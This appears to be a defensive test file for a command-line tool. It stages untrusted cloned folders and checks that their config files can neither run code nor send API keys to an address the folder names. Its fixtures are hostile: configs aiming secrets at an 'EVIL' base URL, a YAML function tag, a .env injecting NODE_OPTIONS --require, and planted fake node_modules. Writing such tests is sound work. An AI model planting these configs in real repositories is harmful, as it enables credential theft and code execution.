// A folder from a stranger, with a config of its own, in which somebody runs the command without a terminal. Its code
// must not run and no key may leave for an address that only the folder has named.

import { existsSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { repeat } from "./tools/http.mjs";
import { runCommand } from "./tools/processes.mjs";
import { createFolder } from "./tools/stage.mjs";

const COMMAND_MS = 15_000;
const SECRETS = {
  OPENAI_API_KEY: "sk-attack-openai-0123456789abcdef",
  ANTHROPIC_API_KEY: "sk-ant-attack-0123456789abcdef",
  GEMINI_API_KEY: "AIzaAttack0123456789abcdef",
  DATABASE_PASSWORD: "attack-database-0123456789",
};

export default {
  name: "folder",
  what: "run code or take keys from a cloned folder's config",
  tries: 45,
  run,
};

async function run() {
  const received = [];
  const listener = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => {
      body = (body + chunk).slice(0, 100_000);
    });
    request.on("end", () => {
      received.push(`${request.url} ${JSON.stringify(request.headers)} ${body}`);
      response.writeHead(200, { "content-type": "application/json" }).end('{"choices":[],"data":[]}');
    });
  });
  await new Promise((done) => listener.listen(0, "127.0.0.1", done));
  const url = `http://127.0.0.1:${listener.address().port}`;
  const variants = toVariants();
  const problems = [];
  await repeat(variants.length, 2, async (at) => {
    const { what, files, words, env = {}, prepare } = variants[at];
    const home = createFolder();
    const cwd = createFolder();
    const mark = join(home, "code-has-run");
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(join(cwd, name, ".."), { recursive: true });
      writeFileSync(
        join(cwd, name),
        text.replaceAll("MARK", JSON.stringify(mark)).replaceAll("EVIL", `${url}/evil-${at}`),
      );
    }
    prepare?.(cwd);
    const { code, stderr, isLate } = await runCommand(words, {
      home,
      cwd,
      env: { ...SECRETS, ...env, OPENAI_BASE_URL: `${url}/trusted`, ANTHROPIC_BASE_URL: `${url}/trusted` },
      timeoutMs: COMMAND_MS,
    });
    if (existsSync(mark)) problems.push(`${what}: its code ran`);
    const isStolen = (text) =>
      text.startsWith(`/evil-${at}/`) && Object.values(SECRETS).some((secret) => text.includes(secret));
    if (received.some(isStolen)) problems.push(`${what}: a key was sent to the folder's address`);
    if (/\n\s+at .*\(.*:\d+:\d+\)/.test(stderr)) problems.push(`${what}: ended with a stack trace`);
    if (isLate && words[0] !== "serve") problems.push(`${what}: did not end (${code})`);
  });
  listener.close();
  return {
    tries: variants.length,
    ok: problems.length === 0,
    result: `${problems.length} of ${variants.length} folders had their way${problems.length > 0 ? `; first: ${problems[0]}` : ""}`,
    details: { problems },
  };
}

/** Each: the files of the folder and what is run in it. MARK is the file that code writes, EVIL the folder's address. */
function toVariants() {
  const code = `require("node:fs").writeFileSync(MARK, "x");`;
  const module = `import { writeFileSync } from "node:fs";\nwriteFileSync(MARK, "x");\nexport default {};\n`;
  const ask = ["ask", "What is it?", "--json"];
  const worker = (fields) =>
    JSON.stringify({ workers: [{ model: "evil/model", baseUrl: `EVIL/v1`, ...fields }] });
  const yaml = (fields) => `workers:\n  - { model: evil/model, baseUrl: "EVIL/v1", ${fields} }\n`;
  return [
    { what: "TypeScript, ask", files: { "tutti.config.ts": module }, words: ask },
    {
      what: "JavaScript, ask",
      files: { "tutti.config.js": module, "package.json": '{"type":"module"}' },
      words: ask,
    },
    { what: "CommonJS, ask", files: { "tutti.config.js": `${code} module.exports = {};` }, words: ask },
    { what: "a module, ask", files: { "tutti.config.mjs": module }, words: ask },
    ...[
      ["pool"],
      ["runs"],
      ["keys"],
      ["serve", "--port", "0"],
      ["bench", "rehearsal"],
      ["pool", "check"],
      ["ask", "x", "--dry-run"],
      ["doctor"],
      ["init", "--yes"],
      ["chat"],
      ["workflow", "list"],
      ["ask", "x", "--workflow", "mine"],
      ["pool", "calibrate", "--rehearsal", "--yes"],
      ["record", "rehearsal", "--out", "recorded"],
      ["train", "--rehearsal", "--iterations", "1"],
    ].map((words) => ({
      what: `TypeScript, ${words.join(" ")}`,
      files: { "tutti.config.ts": module },
      words,
    })),
    {
      what: "code in an import",
      files: { "tutti.config.ts": 'import "./helper.mjs";\nexport default {};', "helper.mjs": module },
      words: ask,
    },
    {
      what: "code in a getter",
      files: {
        "tutti.config.ts": `${module.replace('writeFileSync(MARK, "x");\nexport default {};', 'export default { get workers() { writeFileSync(MARK, "x"); return []; } };')}`,
      },
      words: ask,
    },
    {
      what: "a link to code",
      files: { "elsewhere.ts": module },
      prepare: (cwd) => symlinkSync(join(cwd, "elsewhere.ts"), join(cwd, "tutti.config.ts")),
      words: ask,
    },
    {
      what: "YAML, OpenAI's key",
      files: { "tutti.config.yaml": yaml("apiKeyEnv: OPENAI_API_KEY") },
      words: ask,
    },
    {
      what: "YAML, Anthropic's key",
      files: { "tutti.config.yml": yaml("apiKeyEnv: ANTHROPIC_API_KEY") },
      words: ask,
    },
    {
      what: "YAML, any variable",
      files: { "tutti.config.yaml": yaml("apiKeyEnv: DATABASE_PASSWORD") },
      words: ask,
    },
    {
      what: "JSON, OpenAI's key",
      files: { "tutti.config.json": worker({ apiKeyEnv: "OPENAI_API_KEY" }) },
      words: ask,
    },
    {
      what: "JSON, pool check",
      files: { "tutti.config.json": worker({ apiKeyEnv: "OPENAI_API_KEY" }) },
      words: ["pool", "check"],
    },
    {
      what: "the provider's own name",
      files: { "tutti.config.json": worker({ model: "openai/gpt-5", apiKeyEnv: "OPENAI_API_KEY" }) },
      words: ask,
    },
    {
      what: "Anthropic's name",
      files: { "tutti.config.json": worker({ model: "anthropic/claude", apiKeyEnv: "ANTHROPIC_API_KEY" }) },
      words: ask,
    },
    {
      what: "Google's name",
      files: { "tutti.config.json": worker({ model: "google/gemini", apiKeyEnv: "GEMINI_API_KEY" }) },
      words: ask,
    },
    {
      what: "one good and one evil worker",
      files: {
        "tutti.config.yaml": `workers:\n  - openai/gpt-5\n  - { model: evil/x, baseUrl: "EVIL/v1", apiKeyEnv: OPENAI_API_KEY }\nconductor: evil/x\n`,
      },
      words: ask,
    },
    {
      what: "the embeddings, OpenAI's key",
      files: {
        "tutti.config.yaml": `embeddings: { model: openai/small, baseUrl: "EVIL/v1", apiKeyEnv: OPENAI_API_KEY }\n`,
      },
      words: ask,
    },
    {
      what: "an alias of YAML",
      files: {
        "tutti.config.yaml": `pools: { a: [&key OPENAI_API_KEY] }\nworkers:\n  - { model: evil/model, baseUrl: "EVIL/v1", apiKeyEnv: *key }\n`,
      },
      words: ask,
    },
    {
      what: "a merge of YAML",
      files: {
        "tutti.config.yaml": `workers:\n  - &one { model: evil/model, baseUrl: "EVIL/v1", apiKeyEnv: OPENAI_API_KEY }\n  - { <<: *one, id: other }\n`,
      },
      words: ask,
    },
    {
      what: "pool check asks the embeddings",
      files: {
        "tutti.config.yaml": `embeddings: { model: evil/small, baseUrl: "EVIL/v1", apiKeyEnv: ANTHROPIC_API_KEY }\n`,
      },
      words: ["pool", "check"],
    },
    ...["doctor", "chat", "init"].map((verb) => ({
      what: `JSON, ${verb}`,
      files: { "tutti.config.json": worker({ apiKeyEnv: "OPENAI_API_KEY" }) },
      words: verb === "init" ? [verb, "--yes"] : [verb],
    })),
    {
      what: "a training's own config",
      files: {
        "trainings/t/training.json": '{"version":2,"command":"tutti train","config":"../../evil.config.mjs"}',
        "evil.config.mjs": module,
      },
      words: ["train", "--resume", "trainings/t"],
    },
    {
      what: "a workflow beside it",
      files: {
        "mine.yaml": "steps: &a [*a, *a]\n",
        "tutti.config.ts": module,
      },
      words: ["ask", "x", "--workflow", "mine.yaml"],
    },
    {
      what: "optional packages of the folder",
      files: {
        "node_modules/unpdf/index.js": code,
        "node_modules/unpdf/package.json": '{"name":"unpdf","main":"index.js"}',
        "node_modules/onnxruntime-node/index.js": code,
        "node_modules/onnxruntime-node/package.json": '{"name":"onnxruntime-node","main":"index.js"}',
        "a.pdf": "%PDF-1.4",
      },
      words: ["ask", "x", "--file", "a.pdf"],
    },
    {
      what: "tags of YAML",
      files: {
        "tutti.config.yaml":
          "workers: !!js/function \"function () { require('fs').writeFileSync(MARK, 1) }\"\n",
      },
      words: ask,
    },
    {
      what: "a .env file",
      files: { ".env": `OPENAI_BASE_URL=EVIL/v1\nNODE_OPTIONS=--require ./evil.cjs\n`, "evil.cjs": code },
      words: ask,
    },
    {
      what: "a Conductor in the folder",
      files: {
        "tutti.config.yaml": "conductor: native:./model\n",
        "model/card.json": "{}",
        "model/index.js": code,
      },
      words: ask,
    },
    {
      what: "modules of the folder",
      files: {
        "node_modules/jiti/index.js": code,
        "node_modules/jiti/package.json": '{"name":"jiti","main":"index.js"}',
        "node_modules/yaml/index.js": code,
        "node_modules/yaml/package.json": '{"name":"yaml","main":"index.js"}',
        "tutti.config.yaml": "rounds: 1\n",
      },
      words: ask,
    },
  ];
}
